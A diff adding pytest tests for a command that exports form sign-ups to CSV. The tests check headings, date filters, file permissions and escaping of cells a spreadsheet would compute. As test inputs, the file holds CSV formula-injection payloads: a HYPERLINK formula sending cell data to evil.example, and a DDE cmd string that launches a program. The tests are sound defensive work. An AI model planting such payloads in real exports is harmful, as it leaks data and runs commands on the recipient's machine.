@@ -1,0 +1,138 @@
+"""The sign-ups of a form as CSV."""
+
+import csv
+import io
+import json
+import os
+import stat
+import subprocess
+import sys
+from dataclasses import replace
+
+import pytest
+
+from mentorkorps.backend import sheet, store
+from tests.backend.conftest import KEY
+from tests.conftest import ROOT
+
+HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"se her")'
+COMPUTED = ("=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "=cmd|' /C calc'!A0", HOSTILE, "'=1")
+
+
+def desk(house, *arguments):
+    told = {"MENTORKORPS_DATABASE_URL": f"sqlite:///{house.settings.database}", "MENTORKORPS_SECRET_KEYS": KEY}
+    return subprocess.run(
+        [sys.executable, "-m", "mentorkorps.cli", "desk", *map(str, arguments)],
+        capture_output=True, cwd=ROOT, env=os.environ | told,
+    )  # fmt: skip
+
+
+def table(text: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+@pytest.fixture
+def busy(house, hands):
+    house.post(phone="+45 12 34 56 78", languages=["da", "en"])
+    house.client.post(house.link("confirm"))
+    hands.pass_by(days=1)
+    house.post(name=HOSTILE, email="bo@example.org", website="x")
+    hands.pass_by(days=1)
+    house.client.post("/forms/interesseliste", data={
+        "name": "Ida", "email": "ida@example.org", "place": "5000", "adult": "yes", "contact": "2026-11-22",
+    })  # fmt: skip
+    return house
+
+
+def test_a_form_is_written_with_its_questions_as_columns(busy, tmp_path):
+    file = tmp_path / "mentor.csv"
+    written = desk(busy, "export", "mentor", file)
+
+    assert (0, b"") == (written.returncode, written.stderr)
+    assert b"holds 2 sign-ups." in written.stdout
+    text = file.read_bytes()
+    assert text.startswith(b'\xef\xbb\xbf"Nummer";"Kom";"Bekr')
+    assert b"\r\n" in text
+    first, second = table(text)
+    told = {"Navn": "Karen Testesen", "Telefon": "'+45 12 34 56 78", "Kom": "2026-11-23 10:00", "contact": "2026-11-22"}
+    assert told.items() <= first.items()
+    assert {"Postnummer eller kommune": "Odense", "Ligner spam": "", "news": ""}.items() <= first.items()
+    assert {"Bekræftet": "", "Ligner spam": "ja", "Navn": "'" + HOSTILE}.items() <= {
+        name: value.lower() if name == "Ligner spam" else value for name, value in second.items()
+    }.items()
+
+
+def test_headings_and_choices_come_in_english_too(busy):
+    (first, _) = table(desk(busy, "export", "mentor", "-", "--language", "en").stdout)
+
+    assert {"Name", "Postcode or municipality", "Received"} <= set(first)
+    assert "Danish, English" == first["Languages you can hold a conversation in"]
+
+
+@pytest.mark.parametrize(
+    ("period", "names"),
+    [
+        (["--from", "2026-11-24"], [HOSTILE]),
+        (["--to", "2026-11-23"], ["Karen Testesen"]),
+        (["--from", "2026-11-25"], []),
+        (["--from", "2026-11-23", "--to", "2026-11-24"], ["Karen Testesen", HOSTILE]),
+    ],
+)
+def test_days_limit_it_both_counted_in(busy, period, names):
+    rows = table(desk(busy, "export", "mentor", "-", *period).stdout)
+
+    assert names == [one["Navn"].removeprefix("'") for one in rows]
+
+
+def test_only_its_owner_may_read_the_file_and_none_is_overwritten(busy, tmp_path):
+    file = tmp_path / "mentor.csv"
+    desk(busy, "export", "mentor", file)
+    again = desk(busy, "export", "mentor", file)
+
+    assert 0o600 == stat.S_IMODE(file.stat().st_mode)
+    assert (2, 1) == (again.returncode, len(again.stderr.splitlines()))
+    assert b"exists already" in again.stderr
+
+
+def test_an_unknown_form_is_told_with_those_that_exist(busy):
+    told = desk(busy, "export", "nope", "-")
+
+    assert 2 == told.returncode
+    assert b"only mentor, interesseliste" in told.stderr
+
+
+@pytest.mark.parametrize("cell", COMPUTED)
+def test_a_cell_that_would_be_computed_is_text_and_can_be_read_back(cell):
+    assert sheet.safe(cell)[0] == "'"
+    assert cell == sheet.safe(cell)[1:]
+
+
+@pytest.mark.parametrize("cell", ["Karen", "12345678", "(+45) 1", "Ærø", "", "a=b", "10-12"])
+def test_other_cells_stay_as_they_are(cell):
+    assert cell == sheet.safe(cell)
+
+
+def test_an_answer_to_a_question_that_is_gone_is_not_left_out(busy, real, tmp_path):
+    form = real.forms["mentor"]
+    shorter = replace(form, fields=tuple(one for one in form.fields if one.id != "phone"))
+    kept = store.each_sign_up(busy.settings)
+    file = io.BytesIO()
+    sheet.Sheet(shorter, real, "da").write(file, kept, sheet.Period())
+
+    assert {"phone": "+45 12 34 56 78"} == json.loads(table(file.getvalue())[0]["Andre svar"])
+
+
+@pytest.mark.parametrize(
+    ("asked", "count"),
+    [
+        (["--form", "mentor"], 2),
+        (["--form", "interesseliste"], 1),
+        (["--state", "confirmed"], 1),
+        (["--state", "unconfirmed"], 2),
+        (["--state", "flagged"], 1),
+        (["--state", "withdrawn"], 0),
+        (["--form", "mentor", "--state", "unanswered"], 2),
+    ],
+)
+def test_the_list_can_be_narrowed(busy, asked, count):
+    assert f"{count} sign-ups, ".encode() in desk(busy, "list", *asked).stdout
